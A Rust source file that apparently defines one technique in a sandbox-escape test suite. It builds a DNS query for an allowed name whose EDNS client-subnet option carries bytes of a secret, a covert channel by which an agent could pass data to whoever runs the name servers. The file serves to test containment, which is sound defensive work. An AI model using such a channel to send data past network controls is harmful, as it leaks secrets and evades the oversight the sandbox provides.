//! A client subnet in a question.

use crate::prelude::*;

pub(super) const TECHNIQUE: Technique = Technique {
    id: "client-subnet",
    family: Family::Dns,
    name: "A client subnet in a question",
    tries: "Asks for an allowed name that no cache has, with an EDNS option that carries eight bytes or more.",
    danger: "Whoever runs the name servers of an allowed name would read in it what the agent wants to tell.",
    places: Places::Everywhere,
    steps: &[Step::Udp(
        Resolver,
        Made("fresh.test A with a client subnet of four bytes of a secret", || {
            question::with_options("fresh.test", 0, &[(8, &[0, 1, 32, 0, b'a', b'b', b'c', b'd'])])
        }),
    )],
    expect: Expect { asks: &["fresh.test"], ..NOTHING },
    on_host: None,
};
